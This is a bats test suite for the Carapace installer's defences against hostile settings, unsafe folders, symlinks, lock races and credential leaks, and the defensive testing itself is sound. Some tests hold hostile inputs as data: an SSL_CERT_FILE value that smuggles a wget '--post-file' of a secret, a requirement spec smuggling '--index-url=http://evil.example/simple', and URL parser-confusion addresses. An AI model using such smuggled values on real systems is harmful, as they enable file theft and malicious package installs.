#!/usr/bin/env bats
# Hostile input and crashes: the installer deletes only what it made, never writes
# through a link, lets exactly one run take over a stale lock, stops when the app
# that started it is gone, and refuses URLs, names and values that smuggle things in.

load helpers
bats_require_minimum_version 1.5.0

# A user's folders, as they sit in a home folder or a project.
make_user_folders() {
    mkdir -p "$1/tools/mine" "$1/logs" "$1/cache" "$1/staging"
    echo precious >"$1/tools/mine/file"
    echo precious >"$1/logs/app.log"
    echo precious >"$1/staging/draft"
}

assert_user_folders_intact() {
    assert_equal "$(cat "$1/tools/mine/file")" precious
    assert_equal "$(cat "$1/logs/app.log")" precious
    assert_equal "$(cat "$1/staging/draft")" precious
    assert [ -d "$1/cache" ]
}

@test "CARAPACE_HOME set to the home folder itself is refused, and nothing in it is touched" {
    make_user_folders "$USER_HOME"
    INSTALLER_ENV+=(CARAPACE_HOME="$USER_HOME")
    for args in --uninstall "" --force; do
        # shellcheck disable=SC2086
        run installer $args
        assert_failure 16
        assert_line --partial "error code=permission: CARAPACE_HOME is your home folder itself ($USER_HOME)"
        assert_user_folders_intact "$USER_HOME"
    done
    INSTALLER_ENV=(CARAPACE_HOME="$USER_HOME/")
    run installer --uninstall
    assert_failure 16
    assert_user_folders_intact "$USER_HOME"
}

@test "a relative CARAPACE_HOME is refused, and the project's folders are untouched" {
    make_user_folders "$BATS_TEST_TMPDIR/project"
    cd "$BATS_TEST_TMPDIR/project"
    for home in . ./ project-carapace ../project; do
        INSTALLER_ENV=(CARAPACE_HOME="$home")
        run installer --uninstall
        assert_failure 16
        assert_line --partial "CARAPACE_HOME must be a full path starting with /, not '$home'"
    done
    assert_user_folders_intact "$BATS_TEST_TMPDIR/project"
}

@test "the root folder is refused outright, under any of its names" {
    for home in / // /. /tmp/..; do
        INSTALLER_ENV=(CARAPACE_HOME="$home")
        run installer --uninstall
        assert_failure 16
        assert_line --partial "error code=permission: CARAPACE_HOME is the root folder"
    done
}

@test "a folder that is not Carapace's is neither installed into nor uninstalled" {
    make_user_folders "$BATS_TEST_TMPDIR/project"
    INSTALLER_ENV+=(CARAPACE_HOME="$BATS_TEST_TMPDIR/project")
    run installer
    assert_failure 16
    assert_line --partial "$BATS_TEST_TMPDIR/project already holds files that Carapace did not put there, so nothing is installed into it"
    run installer --uninstall
    assert_failure 16
    assert_line --partial "is not marked as Carapace's folder (.carapace-home is missing), so nothing in it is removed"
    assert_user_folders_intact "$BATS_TEST_TMPDIR/project"
    assert_equal "$(uv_install_count)" 0
}

@test "--uninstall removes only what the mark lists as made by the installer" {
    installer >/dev/null
    echo mine >"$CARAPACE_DIR/notes.txt"
    mkdir -p "$CARAPACE_DIR/extra" "$CARAPACE_DIR/servers"
    echo mine >"$CARAPACE_DIR/extra/file"
    run cat "$CARAPACE_DIR/.carapace-home"
    for made in uv tools python cache logs install.json; do
        assert_line "$made"
    done
    refute_line extra
    run installer --uninstall
    assert_success
    run ls -A "$CARAPACE_DIR"
    assert_output ".carapace-home
extra
notes.txt
servers"
    assert_equal "$(cat "$CARAPACE_DIR/extra/file")" mine
    # the mark lists nothing any more, so a second uninstall removes nothing
    run installer --uninstall
    assert_success
    assert [ -f "$CARAPACE_DIR/notes.txt" ]
}

@test "links inside the folder are replaced, never written through" {
    make_carapace_home
    outside=$BATS_TEST_TMPDIR/outside
    mkdir -p "$outside/logs" "$outside/staging" "$outside/uv"
    for name in logs staging uv; do ln -s "$outside/$name" "$CARAPACE_DIR/$name"; done
    echo original >"$outside/marker"
    ln -s "$outside/marker" "$CARAPACE_DIR/install.json"
    run installer
    assert_success
    run find "$outside" -type f
    assert_output "$outside/marker"
    assert_equal "$(cat "$outside/marker")" original
    for name in logs uv; do
        assert [ ! -L "$CARAPACE_DIR/$name" ]
        assert [ -d "$CARAPACE_DIR/$name" ]
    done
    assert [ -f "$CARAPACE_DIR/logs/install.log" ]
    assert [ ! -L "$CARAPACE_DIR/install.json" ]
}

@test "--uninstall removes a link, not what it points to, and changes no mode outside" {
    installer >/dev/null
    outside=$BATS_TEST_TMPDIR/outside
    mkdir -p "$outside/read-only/inner"
    echo keep >"$outside/read-only/inner/file"
    chmod a-w "$outside/read-only/inner"
    rm -rf "$CARAPACE_DIR/cache"
    ln -s "$outside/read-only" "$CARAPACE_DIR/cache"
    run installer --uninstall
    assert_success
    assert [ ! -e "$CARAPACE_DIR/cache" ]
    assert_equal "$(cat "$outside/read-only/inner/file")" keep
    assert_equal "$(stat -c %A "$outside/read-only/inner")" "dr-xr-xr-x"
    chmod u+w "$outside/read-only/inner"
}

@test "a mark that is a link is refused" {
    mkdir -p "$CARAPACE_DIR"
    echo "# not ours" >"$BATS_TEST_TMPDIR/elsewhere-mark"
    ln -s "$BATS_TEST_TMPDIR/elsewhere-mark" "$CARAPACE_DIR/.carapace-home"
    run installer
    assert_failure 16
    assert_line --partial "$CARAPACE_DIR/.carapace-home is not a plain file"
}

@test "10 runs at a stale lock, 20 times over: exactly one takes it over and installs, every run completes" {
    for trial in $(seq 20); do
        rm -rf "$CARAPACE_DIR" "$RECORDS"
        make_carapace_home
        mkdir "$CARAPACE_DIR/install.lock" "$CARAPACE_DIR/install.lock.stale.99999"
        touch -d '60 seconds ago' "$CARAPACE_DIR/install.lock"
        local pids=() i
        for i in $(seq 10); do
            installer_bg "$BATS_TEST_TMPDIR/out$i"
            pids+=("$BG_PID")
        done
        for i in "${pids[@]}"; do wait "$i" || true; done
        for i in $(seq 10); do
            tail -n 1 "$BATS_TEST_TMPDIR/out$i" | grep -q '^\[carapace\] complete: SkyPilot 1.0.0.dev20261120 is ready at ' ||
                fail "trial $trial, run $i: $(cat "$BATS_TEST_TMPDIR/out$i")"
        done
        assert_equal "$(uv_install_count)" 1
        assert_equal "$(cat "$BATS_TEST_TMPDIR"/out* | grep -c 'taking over its lock')" 1
        assert [ ! -e "$CARAPACE_DIR/install.lock.stale.99999" ]
        assert [ ! -e "$CARAPACE_DIR/install.lock" ]
    done
}

@test "an installer whose app is gone (CARAPACE_WATCH_PID) stops and releases the lock" {
    sleep 60 3>&- &
    app=$!
    INSTALLER_ENV+=(CARAPACE_WATCH_PID="$app" STANDIN_UV_INSTALL_SECONDS=60)
    installer_bg "$BATS_TEST_TMPDIR/out"
    wait_for_line "$BATS_TEST_TMPDIR/out" "Prepared 112 packages"
    uv_pid=$(uv_pids)
    kill -9 "$app"
    status=0
    wait "$BG_PID" || status=$?
    assert_equal "$status" 130
    run kill -0 "$uv_pid"
    assert_failure
    assert [ ! -e "$CARAPACE_DIR/install.lock" ]
    assert [ ! -e "$CARAPACE_DIR/staging" ]
}

@test "an installer whose reader is gone (stdout closed) stops and releases the lock" {
    INSTALLER_ENV+=(STANDIN_UV_INSTALL_SECONDS=60)
    mkfifo "$BATS_TEST_TMPDIR/pipe"
    installer_bg_to "$BATS_TEST_TMPDIR/pipe"
    # read until uv runs, then stop reading for good, as a killed app does
    timeout 30 sed '/Prepared 112 packages/q' <"$BATS_TEST_TMPDIR/pipe" >/dev/null
    status=0
    wait "$BG_PID" || status=$?
    assert_equal "$status" 130
    assert [ ! -e "$CARAPACE_DIR/install.lock" ]
}

@test "plain http with a user:password@ before a remote host is refused" {
    INSTALLER_ENV+=(CARAPACE_UV_MIRROR=http://localhost:1@example.invalid/uv)
    run installer
    assert_failure 12
    assert_line --partial "CARAPACE_UV_MIRROR is not an address Carapace can download from (http://***@example.invalid/uv): plain http:// is allowed only to this machine"
    refute_line --partial "localhost:1@"
}

# curl resolves *.localhost to this machine by itself: evil.localhost stands for a remote
# host that a reading of the address other than curl's would not see.
@test "an address whose host ends at ? or # (as curl reads it) is refused before anything is downloaded" {
    local port
    port=$(mirror_url | sed 's/.*://')
    for mirror in "http://evil.localhost:$port?@127.0.0.1/uv" "http://evil.localhost:$port#@127.0.0.1/uv"; do
        INSTALLER_ENV=(CARAPACE_UV_MIRROR="$mirror")
        run installer
        assert_failure 12
        assert_line --partial "error code=network: CARAPACE_UV_MIRROR is not an address Carapace can download from (${mirror}): plain http:// is allowed only to this machine (127.0.0.1, localhost or [::1]). What to do: Fix CARAPACE_UV_MIRROR in Network settings"
        assert_equal "$(mirror_requests)" "[]"
    done
    INSTALLER_ENV=(UV_DEFAULT_INDEX="http://evil.localhost:$port#@127.0.0.1/simple")
    run installer
    assert_failure 12
    assert_line --partial "UV_DEFAULT_INDEX is not an address Carapace can download from"
    assert_equal "$(uv_install_count)" 0
}

@test "every address uv or the installer downloads from is checked before anything is downloaded, the hint naming it" {
    for setting in CARAPACE_UV_MIRROR=http://example.invalid/uv UV_DEFAULT_INDEX=http://pypi.example/simple \
        "UV_INDEX=https://ok.example/simple corp=http://pypi.example/simple" UV_INDEX_URL=http://pypi.example/simple \
        UV_EXTRA_INDEX_URL=http://pypi.example/simple UV_PYTHON_INSTALL_MIRROR=http://python.example/ \
        UV_ASTRAL_MIRROR_URL=http://astral.example/ 'UV_DEFAULT_INDEX=https://pypi.example\@127.0.0.1/simple'; do
        INSTALLER_ENV=("$setting")
        run installer
        assert_failure 12
        assert_line --partial "error code=network: ${setting%%=*} is not an address Carapace can download from"
        assert_line --partial "What to do: Fix ${setting%%=*} in Network settings (or in the environment), using https://"
        assert_equal "$(mirror_requests)" "[]"
        assert_equal "$(uv_install_count)" 0
    done
}

@test "a loopback mirror's redirect to a remote plain-http address is not followed" {
    mirror_faults '[{"match":".tar.gz","kind":"redirect","location":"http://example.invalid/uv.tar.gz"}]'
    run installer
    assert_failure 12
    assert_line --partial "error code=network: Could not download uv from"
    run mirror_requests
    assert_output --partial "gnu.tar.gz"
}

@test "the mirror list is split on spaces, never glob-expanded" {
    # Read as a path, http://127.0.0.1:PORT/u* matches http:/127.0.0.1:PORT/uvA here.
    local hostport
    hostport=$(mirror_url | sed 's|^http://||')
    mkdir -p "$BATS_TEST_TMPDIR/cwd/http:/$hostport/uvA"
    cd "$BATS_TEST_TMPDIR/cwd"
    INSTALLER_ENV+=(CARAPACE_UV_MIRROR="$(mirror_url)/u*")
    run installer
    assert_success
    run mirror_requests
    assert_output --partial '"/u*/0.12.5/uv-x86_64-unknown-linux-gnu.tar.gz"'
    refute_output --partial uvA
}

@test "a home with space, quote, backslash, tab, dollar, star and non-ASCII characters installs, with a valid marker" {
    home=$BATS_TEST_TMPDIR/$'odd "name" \\ \t $HOME * é中'
    INSTALLER_ENV+=(CARAPACE_HOME="$home")
    run installer
    assert_success
    run node -e 'const m = JSON.parse(require("fs").readFileSync(process.argv[1] + "/install.json", "utf8")); console.log(m.sky_path === process.argv[1] + "/tools/bin/sky")' "$home"
    assert_output true
    run installer
    assert_output "[carapace] complete: SkyPilot 1.0.0.dev20261120 is ready at $home/tools/bin/sky"
    run installer --uninstall
    assert_success
    assert [ ! -e "$home" ]
}

@test "options smuggled as values are refused" {
    INSTALLER_ENV=(CARAPACE_SKYPILOT_SPEC=--index-url=http://evil.example/simple)
    run installer
    assert_failure 18
    assert_line --partial "CARAPACE_SKYPILOT_SPEC is not a valid requirement: '--index-url=http://evil.example/simple'"
    for version in .. --help ../../x 0.12.5-x 1..2 0.12.; do
        INSTALLER_ENV=(CARAPACE_UV_VERSION="$version")
        run installer
        assert_failure 1
        assert_line --partial "CARAPACE_UV_VERSION is not a uv version number: '$version'"
    done
    assert_equal "$(uv_install_count)" 0
}

@test "a CA bundle path that smuggles options into wget is refused, and no file is posted" {
    make_toolbox "$BATS_TEST_TMPDIR/box" curl
    TOOLBOX=$BATS_TEST_TMPDIR/box
    echo "secret content" >"$BATS_TEST_TMPDIR/secret"
    echo "not a certificate" >"$BATS_TEST_TMPDIR/ca.pem"
    INSTALLER_ENV+=(SSL_CERT_FILE="$BATS_TEST_TMPDIR/ca.pem --post-file=$BATS_TEST_TMPDIR/secret")
    run installer
    assert_failure 13
    assert_line --partial "error code=tls: SSL_CERT_FILE is $BATS_TEST_TMPDIR/ca.pem --post-file=$BATS_TEST_TMPDIR/secret, which is not a file Carapace can read"
    run mirror_requests
    refute_output --partial '"method":"POST"'
}

# hidden_in_process_table TOOL: while TOOL downloads from a mirror that never answers, with a
# password in the mirror's address, no process's command line holds it.
hidden_in_process_table() {
    local port pid
    make_toolbox "$BATS_TEST_TMPDIR/box-$1" "$2"
    TOOLBOX=$BATS_TEST_TMPDIR/box-$1
    rm -rf "$CARAPACE_DIR"
    curl -sSf -X POST "$(mirror_url)/__control/reset"
    mirror_faults '[{"match":".sha256","kind":"hang"}]'
    port=$(mirror_url | sed 's/.*://')
    INSTALLER_ENV=(CARAPACE_UV_MIRROR="http://alice:Pa55-$1@127.0.0.1:$port/uv" CARAPACE_STALL_TIMEOUT=60)
    installer_bg "$BATS_TEST_TMPDIR/out-$1"
    pid=$BG_PID
    until mirror_requests | grep -q '.sha256'; do sleep 0.2; done
    sleep 0.5
    # A process that ends between the glob and grep's read is no finding: its error goes to stderr, apart.
    run --separate-stderr grep -l -a "Pa55-$1" /proc/[0-9]*/cmdline
    kill "$pid"
    wait "$pid" || true
    assert_output ""
}

@test "a mirror's password is in no process's command line while curl or wget downloads" {
    hidden_in_process_table curl wget
    hidden_in_process_table wget curl
}

@test "the install log holds no user name or password of a mirror, and it and credentials/ are the user's alone" {
    local port
    port=$(mirror_url | sed 's/.*://')
    for tool in curl wget; do
        rm -rf "$CARAPACE_DIR"
        make_toolbox "$BATS_TEST_TMPDIR/box-$tool" "$([ "$tool" = curl ] && echo wget || echo curl)"
        TOOLBOX=$BATS_TEST_TMPDIR/box-$tool
        INSTALLER_ENV=(CARAPACE_UV_MIRROR="http://ghp_T0KEN-$tool@127.0.0.1:$port/uv")
        run installer
        assert_success
        run grep -c "ghp_T0KEN" "$CARAPACE_DIR/logs/install.log"
        assert_output 0
        grep -q "download http://\*\*\*@127.0.0.1:$port/uv/" "$CARAPACE_DIR/logs/install.log" || fail "no download line in the log"
        assert_equal "$(stat -c %a "$CARAPACE_DIR/logs/install.log")" 600
        assert_equal "$(stat -c %a "$CARAPACE_DIR/credentials")" 700
    done
}

@test "a CARAPACE_HOME that group or others may write in, or that another user owns, is refused" {
    make_carapace_home
    for mode in 775 757 1777; do
        chmod "$mode" "$CARAPACE_DIR"
        for args in "" --uninstall; do
            # shellcheck disable=SC2086
            run installer $args
            assert_failure 16
            assert_line "[carapace] error code=permission: CARAPACE_HOME must be owned by you and writable by no one else, and this folder is not: $CARAPACE_DIR. What to do: Check that nothing in it was put there by someone else, then make it yours alone (chown it to your user, chmod go-w), or set CARAPACE_HOME to a new folder."
        done
    done
    assert_equal "$(uv_install_count)" 0
    chmod 755 "$CARAPACE_DIR"
    if [ "$(id -u)" = 0 ]; then
        chown 65534 "$CARAPACE_DIR"
        run installer
        assert_failure 16
        assert_line --partial "error code=permission: CARAPACE_HOME must be owned by you and writable by no one else, and this folder is not: $CARAPACE_DIR."
        chown 0 "$CARAPACE_DIR"
    fi
    run installer
    assert_success
}

@test "a new CARAPACE_HOME is made the user's alone, whatever the umask" {
    run env -i HOME="$USER_HOME" PATH="$TOOLBOX" CARAPACE_UV_MIRROR="$(mirror_url)/uv" UV_DEFAULT_INDEX="$(mirror_url)/simple" \
        dash -c 'umask 002; exec dash "$1"' _ "$SCRIPT"
    assert_success
    assert_equal "$(stat -c %a "$CARAPACE_DIR")" 755
}

@test "only this user's processes whose program is the home's python are taken for its API server and stopped" {
    installer >/dev/null
    # One that names the module and the home, but runs another program (the home is an argument).
    sh -c 'sleep 60; :' sh -m sky.server.server "$CARAPACE_DIR/tools/bin/python" 3>&- &
    local named=$!
    run installer --uninstall
    assert_success
    refute_line --partial "Stopping SkyPilot's local API server"
    run kill -0 "$named"
    assert_success
    kill "$named"
}

@test "another user's process running the home's python is not taken for its API server" {
    [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null || skip "needs root and setpriv to run as another user"
    # Folders another user may enter (bats' own are private to root).
    shared=$(mktemp -d /tmp/carapace-api-server.XXXXXX)
    chmod 755 "$shared"
    make_carapace_home "$shared/home"
    mkdir -p "$shared/home/tools/bin"
    printf '#!/bin/sh\nsleep 60; :\n' >"$shared/home/tools/bin/python"
    chmod -R 755 "$shared/home"
    setpriv --reuid=65534 --regid=65534 --clear-groups "$shared/home/tools/bin/python" -m sky.server.server 3>&- &
    local other=$!
    sleep 0.5
    INSTALLER_ENV+=(CARAPACE_HOME="$shared/home")
    run installer --uninstall
    alive=0
    kill -0 "$other" 2>/dev/null && alive=1
    kill "$other" 2>/dev/null
    rm -rf "$shared"
    assert_success
    refute_line --partial "Stopping SkyPilot's local API server"
    assert_equal "$alive" 1
}
